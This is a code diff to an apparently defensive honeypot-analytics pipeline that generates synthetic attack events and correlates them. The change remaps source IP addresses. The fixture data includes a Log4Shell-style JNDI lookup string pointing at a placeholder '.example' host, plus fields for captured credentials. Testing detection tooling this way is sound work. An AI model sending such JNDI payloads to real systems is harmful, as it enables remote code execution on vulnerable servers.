@@ -9,7 +9,7 @@ from hivelens.functions import ics, network, ports, redact, scoring, text, web
 from hivelens.operators import correlate
 from hivelens.plans.registry import T, query
 from hivelens.sources import families
-from hivelens.sources.telemetry import events_of
+from hivelens.sources.telemetry import address_name, events_of, user_address
 
 _KEY = b"sixteen byte key"
 _PADS = ["".join(f"\\x{b ^ x:02X}" for b in _KEY.ljust(64, b"\0")) for x in (0x5C, 0x36)]
@@ -164,7 +164,7 @@ def c7_family_sessions(spark, folder):
     with_turn = lambda a, b: F.concat(F.lit(a), turn.cast("string"), F.lit(b))
     session = F.concat(F.lit("s"), F.col("user_id").cast("string"))
     fields = {
-        "@timestamp": F.date_format("ts", "yyyy-MM-dd'T'HH:mm:ss.SSS'Z'"), "type": F.col("family"), "src_ip": F.col("src_ip"), "t-pot_hostname": F.col("sensor"), "event_id": F.col("event_id"), "session_id": session, "session": session, "id": session,
+        "@timestamp": F.date_format("ts", "yyyy-MM-dd'T'HH:mm:ss.SSS'Z'"), "type": F.col("family"), "src_ip": user_address(F.col("user_id")), "t-pot_hostname": F.col("sensor"), "event_id": F.col("event_id"), "session_id": session, "session": session, "id": session,
         "data_type": of("ConPot", F.lit("modbus")), "request": of("ConPot", F.element_at(F.array(F.lit(REQUESTS[0][1]), F.lit(REQUESTS[1][1]), F.lit(None)), (turn + 1).cast("int"))),
         "commands": of("Mailoney", F.array(F.lit("ehlo x"), F.lit("quit"))), "data": of("Mailoney", F.repeat(F.lit("é"), turn.cast("int"))),
         "http_host": of("H0neytr4p", with_turn("h", ".example:81")), "request_uri": of("H0neytr4p", F.lit("/a")), "referer": of("H0neytr4p", with_turn("${jndi:ldap://c", ".example/x}")),
@@ -173,7 +173,7 @@ def c7_family_sessions(spark, folder):
     rows = events_of(spark, folder).withColumn("family", _turn(_KINDS)).select(F.to_json(F.struct(*[v.alias(k) for k, v in fields.items()])).alias("value"))
     out = correlate.correlate(families.addressed(families.normalise(rows.select(F.expr("try_parse_json(value)").alias("doc")))))
     return out.select(
-        "family", "src_ip", "sensor", F.col("first_seen").cast("timestamp_ntz").alias("first_seen"), "events", F.col("ics.tier").alias("tier"), F.size("requests").cast("long").alias("requests"), "mail_bytes",
+        "family", address_name(F.col("src_ip")).alias("src_ip"), "sensor", F.col("first_seen").cast("timestamp_ntz").alias("first_seen"), "events", F.col("ics.tier").alias("tier"), F.size("requests").cast("long").alias("requests"), "mail_bytes",
         F.replace(_comma("request_urls"), F.lit(":81"), F.lit("")).alias("request_urls"), _comma(F.transform("jndi", lambda x: x["host"])).alias("lookups"),
         _comma(F.transform("credentials", lambda x: F.concat_ws(":", x["username"], x["password"]))).alias("credentials"), "ja3", F.size("ntlm").cast("long").alias("captures"),
     )
